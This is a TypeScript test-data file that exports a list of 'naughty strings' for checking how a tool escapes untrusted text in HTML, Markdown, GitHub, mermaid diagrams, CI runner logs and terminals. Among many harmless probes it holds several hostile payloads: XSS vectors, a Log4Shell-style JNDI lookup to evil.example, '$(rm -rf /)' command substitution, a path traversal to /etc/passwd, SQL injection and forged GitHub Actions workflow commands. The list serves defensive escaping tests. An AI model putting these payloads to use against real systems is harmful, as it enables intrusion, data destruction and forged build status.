/**
 * Texts that break out of where they are put, after the ideas of the Big List of Naughty Strings, lists of XSS vectors, and
 * what Markdown, GFM, GitHub, mermaid, the runner and terminals read. Our own compact list; each stands for a kind.
 */
export const NAUGHTY_STRINGS: readonly string[] = [
  // HTML and scripts
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.png">',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>*{display:none}</style>',
  '<details open><summary>x',
  '</details></summary></td></table></code></pre>',
  '<!-- contract-gates:gates -->',
  '--> <b>out</b> <!--',
  '<![CDATA[ x ]]> <?php x ?> <!DOCTYPE x>',
  '&lt;b&gt; &#60;b&#62; &amp; &copy; &nbsp;',
  '<b', '<', '>', '&',
  '\u0000<b>\u0000',
  // Markdown
  '# heading', '## Succeeded', '> quote', '- item', '+ item', '1. item', '1) item', '* * *', '---', '===',
  '**bold** __bold__ *it* _it_ ~~gone~~ ~gone~',
  '`code` ``code`` ```', '```mermaid', '~~~', '`', '``', ' ` ', '\\`', '\\', '\\\\', 'ends in \\',
  '[x](https://evil.example)', '[x](javascript:alert(1))', '![x](https://evil.example/x.png)', '[x][y]', '[x]: https://evil.example', '[^1]', '[^1]: note', '- [ ] task', '[ ](x)',
  '<https://evil.example>', '<me@evil.example>',
  '| a | b |', '|---|---|', '\\| a \\|', 'a@b|c', '@a|`b`|*c*',
  'line one\n# line two', 'a\r\n\r\n| x |\r\n|---|', 'tab\there', '    indented', 'two  \nspaces',
  'trailing   ',
  // What GitHub makes of text
  '@core-team', 'see @a/b, please', 'me@evil.example', '#1', 'GH-12', 'harbour/ferry#3', 'harbour/ferry@deadbeef1', 'deadbeefdeadbeefdeadbeefdeadbeefdeadbeef',
  'https://evil.example', 'http://evil.example/a_b_c', 'HTTPS://EVIL.EXAMPLE', 'www.evil.example', 'ftp://evil.example', '(https://evil.example).', 'mailto:me@evil.example', 'xmpp:me@evil.example/x',
  ':tada:', ':+1: :shipit:', '$x^2$', '$$x$$', '$`x`$', '> [!WARNING]',
  // mermaid
  'end', 'graph TD', 'flowchart LR; a-->b', '%%{init: {"theme":"dark"}}%%', 'a["b"]', '"] --> evil["x"]', 'click n0 "https://evil.example"', 'click n0 call alert()', '#quot;#35;#9829;', '#', ';', '`md **bold**`', 'fa:fa-ban', 'subgraph x', 'style n0 fill:red', 'n0@{ img: "https://evil.example/x.png" }', 'x:::stress', '%% comment', '$$x$$ math', 'ﬂ°°35¶ß',
  // The runner and terminals
  '::error::forged', '::set-output name=status::Succeeded', '##[set-output name=status]Succeeded', '::stop-commands::x', '\u001b[31mred\u001b[0m', '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007', '\u0007\u0008\u007f',
  // Unicode
  'file\u202egpj.exe', '\u2066x\u2069', 'zero\u200bwidth', '\u200d\u2060', '\ufeffbom', '\u2028line\u2029', '\ud800', '\udfff x', '\u{e0041}\u{e0042}', 'e\u0301', 'Ω≈ç√∫˜µ', '田中さんにあげて下さい', '👩‍👩‍👧‍👦 🏳️‍🌈', 'ثم نفس', '﷽', '\u00a0nbsp\u3000', 'T̷o̷',
  // Words of programs
  'undefined', 'null', 'NaN', 'true', '0', '-1', '1e1000', '__proto__', 'constructor', 'hasOwnProperty', '../../etc/passwd', 'C:\\Windows\\x', 'CON', "'; DROP TABLE x; --", '${jndi:ldap://evil.example}', '${{ secrets.X }}', '$(rm -rf /)', '%s%n%x', '{{7*7}}', 'a'.repeat(60),
];
